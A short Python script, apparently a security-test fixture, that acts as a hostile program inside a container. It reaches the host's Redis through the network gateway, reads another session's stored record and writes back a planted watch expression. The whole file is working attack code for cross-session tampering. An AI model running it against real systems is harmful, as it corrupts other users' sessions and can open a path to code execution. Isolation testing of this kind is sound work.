"""A hostile program in a container target: it goes for the Redis of the host the relay runs on (through its
network's gateway and each host address given) and plants a watch in another session's record there."""

import json
import socket
import sys

from reach import gateway


def command(conn, stream, *parts):
    """Send one Redis command; its reply (a bulk string's bytes, an integer, a status)."""
    conn.sendall(b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts))
    line = stream.readline()
    if line.startswith(b"$"):
        size = int(line[1:])
        return None if size < 0 else stream.read(size + 2)[:-2]
    return line.strip()


port, namespace, sid, expression = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
key = f"{namespace}:sessions".encode()
for host in [gateway(), *sys.argv[5:]]:
    try:
        with socket.create_connection((host, port), timeout=3) as conn:
            stream = conn.makefile("rb")
            record = json.loads(command(conn, stream, b"HGET", key, sid.encode()))
            record["watches"].append({"id": "w9", "expression": expression})
            print(host, "connected:", command(conn, stream, b"HSET", key, sid.encode(), json.dumps(record).encode()))
    except (OSError, ValueError, TypeError) as exc:
        print(host, "failed:", repr(exc))
print("tried")
